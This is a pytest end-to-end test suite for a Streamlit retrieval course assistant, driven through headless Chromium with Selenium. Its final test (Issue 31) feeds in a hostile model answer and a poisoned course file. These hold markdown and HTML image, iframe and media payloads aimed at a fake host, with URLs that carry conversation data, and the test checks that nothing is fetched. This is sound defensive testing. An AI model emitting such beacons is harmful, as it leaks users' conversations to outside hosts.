"""End to end: `streamlit run ui/app.py` on a free localhost port, driven by Debian's headless Chromium
through Selenium (the system chromedriver, never a downloaded one).

`RAG_UPDATE_SCREENSHOT=1` makes the first test save its screenshot of the app answering as
docs/screenshot.png (the README's picture); otherwise it is saved in the test's temp folder only."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import time
from pathlib import Path

import httpx
import pytest

from tests.conftest import ROOT
from tests.fake_openai import FakeServer, free_port

CHROMIUM = Path("/usr/bin/chromium")
CHROMEDRIVER = Path("/usr/bin/chromedriver")
QUESTION = "What does LoRA freeze during fine-tuning?"
BUBBLES = "[data-testid='stChatMessage']"
SCREENSHOT = ROOT / "docs" / "screenshot.png"

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not (CHROMIUM.exists() and CHROMEDRIVER.exists()),
                       reason="needs Debian's chromium and chromium-driver (apt-get install chromium chromium-driver)"),
]


@pytest.fixture
def app_url(course_index, tmp_path: Path):
    """The app served by a real `streamlit run` over the session's course index; stopped afterwards."""
    yield from serve_app(tmp_path, {"RAG_INDEX_DIR": str(course_index.index_dir),
                                    "RAG_CORPUS_DIR": str(course_index.corpus_dir),
                                    "RAG_HISTORY_PATH": str(tmp_path / "chats.sqlite3"),
                                    "RAG_MAX_NEW_TOKENS": "24"})


def serve_app(tmp_path: Path, settings: dict[str, str]):
    """`streamlit run ui/app.py` on a free port with these RAG_* `settings`; yields its URL, then stops it."""
    port = free_port()
    (tmp_path / "no-rag.toml").write_text("", encoding="utf-8")  # an empty config: no project rag.toml is read
    env = {**os.environ, "RAG_MAX_NEW_TOKENS": "8", "RAG_CONFIG": str(tmp_path / "no-rag.toml"), "HF_HUB_OFFLINE": "1",
           "TOKENIZERS_PARALLELISM": "false", "RAG_HISTORY_PATH": str(tmp_path / "chats.sqlite3"), **settings}
    log = open(tmp_path / "streamlit.log", "wb")
    proc = subprocess.Popen(
        [sys.executable, "-m", "streamlit", "run", str(ROOT / "ui" / "app.py"), "--server.headless", "true",
         "--server.port", str(port), "--server.address", "127.0.0.1", "--browser.gatherUsageStats", "false",
         "--server.fileWatcherType", "none"],
        cwd=ROOT, env=env, stdout=log, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 60
        while True:
            if proc.poll() is not None:
                pytest.fail(f"streamlit exited with {proc.returncode}: {(tmp_path / 'streamlit.log').read_text()}")
            try:
                if httpx.get(f"{url}/_stcore/health", timeout=2).status_code == 200:
                    break
            except httpx.HTTPError:
                pass
            if time.monotonic() > deadline:
                pytest.fail("streamlit did not start within 60 s")
            time.sleep(0.3)
        yield url
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=15)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()
        log.close()


@pytest.fixture
def browser(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """Headless Chromium; Selenium Manager is kept offline and never asked for a driver. Files it downloads
    go to tmp_path/downloads."""
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    monkeypatch.setenv("SE_OFFLINE", "true")
    opts = webdriver.ChromeOptions()
    opts.binary_location = str(CHROMIUM)
    for arg in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                "--disable-background-networking", "--disable-component-update", "--disable-sync",
                "--no-first-run", "--window-size=1400,1000", f"--user-data-dir={tmp_path / 'chromium-profile'}"):
        opts.add_argument(arg)
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    opts.add_experimental_option("prefs", {"download.default_directory": str(downloads),
                                           "download.prompt_for_download": False})
    driver = webdriver.Chrome(service=Service(executable_path=str(CHROMEDRIVER)), options=opts)
    driver.execute_cdp_cmd("Page.setDownloadBehavior", {"behavior": "allow", "downloadPath": str(downloads)})
    try:
        yield driver
    finally:
        driver.quit()


NOTE = "It should name the frozen pre-trained weights."
EXPECTED = "LoRA freezes the pre-trained weights and trains low-rank adapter matrices."


def wait_for(driver, seconds: float):
    """A WebDriverWait that looks again when an element it read was redrawn meanwhile (stale)."""
    from selenium.common.exceptions import NoSuchElementException, StaleElementReferenceException
    from selenium.webdriver.support.ui import WebDriverWait

    return WebDriverWait(driver, seconds, poll_frequency=0.2,
                         ignored_exceptions=(StaleElementReferenceException, NoSuchElementException))


def bubble(driver, i: int):
    """The i-th chat bubble, found afresh (after an answer the page is redrawn from the stored conversation)."""
    from selenium.webdriver.common.by import By

    found = driver.find_elements(By.CSS_SELECTOR, BUBBLES)
    return found[i] if len(found) > i else None


def js_click(driver, element) -> None:
    """Click through JavaScript: elements below the chat input or in a floating panel take no mouse click."""
    driver.execute_script("arguments[0].click()", element)


def downloaded(folder: Path, name: str, driver) -> Path:
    """The file `name` once the browser has finished downloading it into `folder`."""
    path = folder / name
    wait_for(driver, 30).until(lambda d: path.is_file() and not list(folder.glob("*.crdownload")))
    return path


def answered(driver, i: int) -> bool:
    """Whether bubble i holds a finished answer redrawn from the history (its timings and thumbs are shown)."""
    from selenium.webdriver.common.by import By

    bot = bubble(driver, i)
    return bool(bot) and "first token" in bot.text and bool(bot.find_elements(By.CSS_SELECTOR, "[data-testid='stFeedback']"))


def test_ask_follow_a_source_rate_and_reload(app_url: str, browser, course_index, tmp_path: Path):
    """Ask; the answer marks its sources [n]; the quoted source opens in its document with the quote
    highlighted and the file downloads; a thumbs-down with a note lands in the feedback export as a `rag eval`
    question; a reload shows the conversation again; another visitor sees none of it."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys

    from rag.evaluation.retrieval import load_questions

    highlight = "span.stMarkdownColoredBackground"
    browser.get(app_url)
    wait_for(browser, 180).until(lambda d: d.find_element(By.XPATH, "//h1[contains(., 'Course assistant')]"))
    box = wait_for(browser, 120).until(lambda d: d.find_element(By.CSS_SELECTOR, "[data-testid='stChatInputTextArea']"))
    wait_for(browser, 120).until(lambda d: "Documents:" in d.find_element(By.CSS_SELECTOR, "[data-testid='stSidebar']").text)
    box.send_keys(QUESTION, Keys.ENTER)

    wait_for(browser, 30).until(lambda d: bubble(d, 1) is not None)
    assert QUESTION in bubble(browser, 0).text
    # Tokens show up while the answer is generated; then the page is redrawn from the stored conversation.
    wait_for(browser, 300).until(lambda d: answered(d, 1))
    bot = bubble(browser, 1)
    assert not bot.find_elements(By.CSS_SELECTOR, "[data-testid='stException']")
    answer = bot.find_element(By.CSS_SELECTOR, "[data-testid='stMarkdownContainer']").text
    source = bot.find_elements(By.CSS_SELECTOR, "[data-testid='stExpander']")[0]  # the quoted one comes first
    assert "quoted" in source.text
    number = re.search(r"\[\d+\]", source.text).group()  # its "[n]"
    assert answer.strip() and number in answer  # the answer marks the source that supports it
    js_click(browser, source.find_element(By.TAG_NAME, "summary"))
    marked = wait_for(browser, 10).until(lambda d: [m for m in source.find_elements(By.CSS_SELECTOR, highlight)
                                                   if m.is_displayed()])
    quote = marked[0].text.strip()
    assert len(quote.split()) >= 3

    browser.set_window_size(1400, 1500)  # the README's picture: the question, the answer, its quoted source open
    browser.execute_script("arguments[0].scrollIntoView({block: 'start'})",
                           browser.find_element(By.XPATH, "//h1[contains(., 'Course assistant')]"))
    shot = tmp_path / "chat.png"
    assert browser.save_screenshot(str(shot)) and shot.stat().st_size > 10_000
    if os.environ.get("RAG_UPDATE_SCREENSHOT") == "1":
        shutil.copyfile(shot, SCREENSHOT)
    browser.set_window_size(1400, 1000)

    # The viewer: the passage in its document, the same quote highlighted, the original file to download.
    js_click(browser, source.find_element(By.XPATH, ".//button[contains(., 'Open in the document')]"))
    dialog = wait_for(browser, 30).until(lambda d: d.find_element(By.CSS_SELECTOR, "[role='dialog']"))
    wait_for(browser, 30).until(lambda d: dialog.find_elements(By.CSS_SELECTOR, highlight))
    assert dialog.find_elements(By.CSS_SELECTOR, highlight)[0].text.strip() == quote
    name = dialog.text.split("\n", 1)[0].split("] ", 1)[1].strip()  # its title: "[1] week1/notes.md"
    document = dialog.find_element(By.CSS_SELECTOR, ".st-key-rag_viewer_text").text
    passage = source.find_element(By.CSS_SELECTOR, "[data-testid='stMarkdownContainer']").text
    assert quote in " ".join(document.split()) and len(document) > len(passage)  # the text around it too
    # the dialog's parts render one after another: wait for the button as for the highlight
    js_click(browser, wait_for(browser, 30).until(
        lambda d: dialog.find_element(By.XPATH, ".//button[contains(., 'Download')]")))
    original = downloaded(tmp_path / "downloads", Path(name).name, browser)
    assert original.read_bytes() == (course_index.corpus_dir / name).read_bytes()
    js_click(browser, wait_for(browser, 10).until(
        lambda d: dialog.find_element(By.CSS_SELECTOR, "button[aria-label='Close']")))
    wait_for(browser, 10).until(lambda d: not d.find_elements(By.CSS_SELECTOR, "[role='dialog']"))

    # Thumbs down with a note and the expected answer: it lands in the feedback export.
    js_click(browser, bubble(browser, 1).find_element(By.CSS_SELECTOR, "button[aria-label='Thumbs down']"))
    note_button = wait_for(browser, 30).until(
        lambda d: bubble(d, 1).find_element(By.XPATH, ".//button[contains(., 'Add a note')]"))
    js_click(browser, note_button)
    panel = wait_for(browser, 10).until(lambda d: [p for p in d.find_elements(By.CSS_SELECTOR, "[data-testid='stPopoverBody']")
                                                  if p.is_displayed() and len(p.find_elements(By.TAG_NAME, "textarea")) == 2])[0]
    note, expected = panel.find_elements(By.TAG_NAME, "textarea")
    note.send_keys(NOTE)
    expected.send_keys(EXPECTED)
    js_click(browser, panel.find_element(By.XPATH, ".//button[contains(., 'Save')]"))
    wait_for(browser, 30).until(lambda d: f"Your note: {NOTE}" in bubble(d, 1).text)
    sidebar = browser.find_element(By.CSS_SELECTOR, "[data-testid='stSidebar']")
    js_click(browser, sidebar.find_element(By.XPATH, ".//button[contains(., 'Export my feedback')]"))
    rows = load_questions(downloaded(tmp_path / "downloads", "feedback-questions.jsonl", browser))
    assert [(r["question"], r["feedback"], r["note"], r["answer"]) for r in rows] == [(QUESTION, "down", NOTE, EXPECTED)]
    assert "evidence" not in rows[0] and rows[0]["model_answer"]

    # A reload finds the conversation again (the URL keeps the visitor and the conversation).
    assert "visitor=" in browser.current_url and "chat=" in browser.current_url
    browser.refresh()

    def shown_again(d) -> bool:  # read afresh each time: the page may still be redrawn after the reload
        bot = bubble(d, 1)
        return (answered(d, 1) and QUESTION in bubble(d, 0).text
                and bot.find_element(By.CSS_SELECTOR, "[data-testid='stMarkdownContainer']").text == answer
                and bot.find_element(By.CSS_SELECTOR, "button[aria-label='Thumbs down']").get_attribute("aria-checked") == "true"
                and f"Your note: {NOTE}" in bot.text
                and QUESTION in d.find_element(By.CSS_SELECTOR, "[data-testid='stSidebar']").text)  # the chat list

    wait_for(browser, 180).until(shown_again, "after a reload the conversation, its rating and note are not shown")

    # Another visitor (the app's plain address: a new token) sees none of it.
    browser.get(app_url)
    wait_for(browser, 120).until(lambda d: d.find_element(By.CSS_SELECTOR, "[data-testid='stChatInputTextArea']"))
    wait_for(browser, 120).until(lambda d: "Documents:" in d.find_element(By.CSS_SELECTOR, "[data-testid='stSidebar']").text)
    assert not browser.find_elements(By.CSS_SELECTOR, BUBBLES)
    assert QUESTION not in browser.find_element(By.CSS_SELECTOR, "[data-testid='stSidebar']").text


MATH_MD = r"""# Attention in formulas

## Scaled dot-product attention

Each output of attention is a weighted sum of the values, with the weights $\mathrm{softmax}(QK^T / \sqrt{d_k})$
computed from the queries and the keys.

```python
def attention(q, k, v):
    return softmax(q @ k.T / math.sqrt(q.shape[-1])) @ v
```
"""
MATH_ANSWER = [r"Attention weights the values by $\mathrm{softmax}(QK^T / \sqrt{d_k})$ computed from queries and keys. ",
               "In code:\n\n```python\n", "out = attention(q, k, v)\n", "```\n"]


def test_math_and_code_render_in_answers_and_sources(tmp_path: Path, embedder, browser):
    """LaTeX renders as KaTeX and fenced code as a code block, in the answer, in the source's passage and in
    its viewer. The answer comes from a scripted OpenAI-compatible server on 127.0.0.1 (a stand-in: the
    bundled 135M model cannot be made to write math on demand); the course file and the app are real."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys

    from rag.api import make_chunker
    from rag.config import Settings
    from rag.index.build import build_index
    from tests.conftest import write_small_corpus

    model = FakeServer()
    try:
        corpus = write_small_corpus(tmp_path / "corpus")
        (corpus / "attention-math.md").write_text(MATH_MD, encoding="utf-8")
        settings = Settings(index_dir=tmp_path / "index", corpus_dir=corpus, model="bundled")
        build_index(corpus, settings.index_dir, embedder, make_chunker(embedder, settings))
        model.play(("drip", MATH_ANSWER, 0.05))
        app = serve_app(tmp_path, {"RAG_INDEX_DIR": str(settings.index_dir), "RAG_CORPUS_DIR": str(corpus),
                                   "RAG_MODEL": model.url, "RAG_ANSWER_MODE": "free", "RAG_TOP_K": "3",
                                   "RAG_MAX_NEW_TOKENS": "256"})
        url = next(app)
        try:
            browser.get(url)
            box = wait_for(browser, 120).until(
                lambda d: d.find_element(By.CSS_SELECTOR, "[data-testid='stChatInputTextArea']"))
            box.send_keys("How is scaled dot-product attention computed?", Keys.ENTER)
            wait_for(browser, 120).until(lambda d: answered(d, 1))
            bot = bubble(browser, 1)
            answer = bot.find_element(By.CSS_SELECTOR, "[data-testid='stMarkdownContainer']")
            assert answer.find_elements(By.CSS_SELECTOR, ".katex") and "$" not in answer.text
            assert "out = attention(q, k, v)" in answer.find_element(By.CSS_SELECTOR, "pre code").text

            source = next(e for e in bot.find_elements(By.CSS_SELECTOR, "[data-testid='stExpander']")
                          if "attention-math.md" in e.text)
            js_click(browser, source.find_element(By.TAG_NAME, "summary"))
            wait_for(browser, 10).until(lambda d: source.find_elements(By.CSS_SELECTOR, ".katex"))
            wait_for(browser, 10).until(lambda d: "def attention" in source.find_element(By.CSS_SELECTOR, "pre code").text)
            js_click(browser, source.find_element(By.XPATH, ".//button[contains(., 'Open in the document')]"))
            dialog = wait_for(browser, 30).until(lambda d: d.find_element(By.CSS_SELECTOR, "[role='dialog']"))
            wait_for(browser, 30).until(lambda d: dialog.find_elements(By.CSS_SELECTOR, ".katex"))
            wait_for(browser, 10).until(lambda d: "def attention" in dialog.find_element(By.CSS_SELECTOR, "pre code").text)
            assert not browser.find_elements(By.CSS_SELECTOR, "[data-testid='stException']")
        finally:
            app.close()
    finally:
        model.close()


# --------------------------------------------------------------------------- rendering that cannot fetch

GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"


def image_host() -> FakeServer:
    """The suite's fake server (tests/fake_openai.py) standing for the host a hostile course file or model
    points images at: it answers every request with a tiny GIF and records it (the test wants none)."""
    return FakeServer().play(("reply", 200, "image/gif", GIF))


def hostile_answer(host: str) -> list[str]:
    """A model's streamed answer that tries every way markdown and HTML have to make a browser load a URL,
    "!" and "[" of one image in two pieces (only the streamed text as a whole shows the image)."""
    return ["LoRA freezes the weights of the pre-trained model. See the ", "!",
            f"[stream-leak](<{host}/stream.png?q=the+conversation>) and ",
            f"![inline-leak]({host}/inline.png \"t\") and ![ref-leak][r] and ![short-leak] ",
            f"<img src=\"{host}/raw-img.png\"> <iframe src=\"{host}/frame\"></iframe> ",
            f"<video src=\"{host}/v.mp4\" autoplay></video> <audio src=\"{host}/a.mp3\" autoplay></audio> ",
            f"<link rel=\"stylesheet\" href=\"{host}/style.css\"> <object data=\"{host}/obj\"></object>",
            f"\n\n[r]: {host}/ref.png\n[short-leak]: {host}/short.png\n"]


def test_a_hostile_answer_and_passage_load_nothing(tmp_path: Path, embedder, browser, monkeypatch: pytest.MonkeyPatch):
    """Issue 31: a course file and a model server both try to make every visitor's browser fetch URLs they
    chose (a tracking image carrying the conversation). The app renders the answer (while it streams and
    after), its passages and the history with images as plain links: the image host gets no request at all,
    and the page shows the links' text."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys
    from selenium.webdriver.support import expected_conditions as EC
    from selenium.webdriver.support.ui import WebDriverWait

    from rag.api import make_chunker
    from rag.config import Settings
    from rag.index.build import build_index
    from tests.conftest import write_small_corpus

    host, model = image_host(), FakeServer()
    try:
        corpus = write_small_corpus(tmp_path / "corpus")
        (corpus / "lora-extra.txt").write_text(
            "LoRA freezes the weights of the pre-trained model and trains small adapter matrices.\n"
            f"![passage-leak]({host.origin}/passage.png?q=secret) <img src=\"{host.origin}/passage-raw.png\">\n",
            encoding="utf-8")
        settings = Settings(index_dir=tmp_path / "index", corpus_dir=corpus, model="bundled")
        build_index(corpus, settings.index_dir, embedder, make_chunker(embedder, settings))
        model.play(("drip", hostile_answer(host.origin), 0.3))
        app = serve_app(tmp_path, {"RAG_INDEX_DIR": str(settings.index_dir), "RAG_CORPUS_DIR": str(corpus),
                                   "RAG_MODEL": model.url, "RAG_ANSWER_MODE": "free", "RAG_TOP_K": "4",
                                   "RAG_MAX_NEW_TOKENS": "1024"})
        url = next(app)
        try:
            def wait(seconds: float):
                return WebDriverWait(browser, seconds, poll_frequency=0.1)

            browser.get(url)
            box = wait(120).until(EC.element_to_be_clickable((By.CSS_SELECTOR, "[data-testid='stChatInputTextArea']")))
            box.send_keys("What does LoRA freeze?", Keys.ENTER)
            wait(60).until(lambda d: bubble(d, 1) is not None)
            try:  # mid-stream: the split image is a link already
                wait_for(browser, 60).until(lambda d: "stream-leak" in bubble(d, 1).text)
            except Exception:
                pytest.fail(f"no answer streamed; the bubble shows: {bubble(browser, 1).text!r}")
            assert not host.requests, [r["path"] for r in host.requests]
            wait_for(browser, 120).until(lambda d: answered(d, 1))  # done, and redrawn from the history
            bot = bubble(browser, 1)
            for summary in bot.find_elements(By.CSS_SELECTOR, "[data-testid='stExpander'] summary"):
                js_click(browser, summary)  # below the chat input: no mouse click
            wait_for(browser, 10).until(lambda d: "passage-leak" in bubble(d, 1).text)
            source = next(e for e in bot.find_elements(By.CSS_SELECTOR, "[data-testid='stExpander']")
                          if "lora-extra.txt" in e.text)
            js_click(browser, source.find_element(By.XPATH, ".//button[contains(., 'Open in the document')]"))
            dialog = wait_for(browser, 30).until(lambda d: d.find_element(By.CSS_SELECTOR, "[role='dialog']"))
            wait_for(browser, 10).until(lambda d: "passage-leak" in dialog.text)  # the file in the viewer too
            js_click(browser, wait_for(browser, 10).until(
        lambda d: dialog.find_element(By.CSS_SELECTOR, "button[aria-label='Close']")))
            box = wait(30).until(EC.element_to_be_clickable((By.CSS_SELECTOR, "[data-testid='stChatInputTextArea']")))
            box.send_keys("And what does it train?", Keys.ENTER)  # the first answer is redrawn from history
            wait_for(browser, 180).until(lambda d: answered(d, 3))
            time.sleep(3)  # time for any fetch the page would make
            bot = bubble(browser, 1)  # the first answer, redrawn from history
            for text in ("stream-leak", "inline-leak", "ref-leak", "short-leak"):
                assert text in bot.text
            links = [a.get_attribute("href") for a in bot.find_elements(By.TAG_NAME, "a")]
            assert f"{host.origin}/inline.png" in links  # a link to click, not an image to load
            assert not browser.find_elements(By.CSS_SELECTOR, f"img[src^='{host.origin}'], iframe, video, audio, object")
            assert not host.requests, [r["path"] for r in host.requests]
        finally:
            app.close()
    finally:
        model.close()
        host.close()
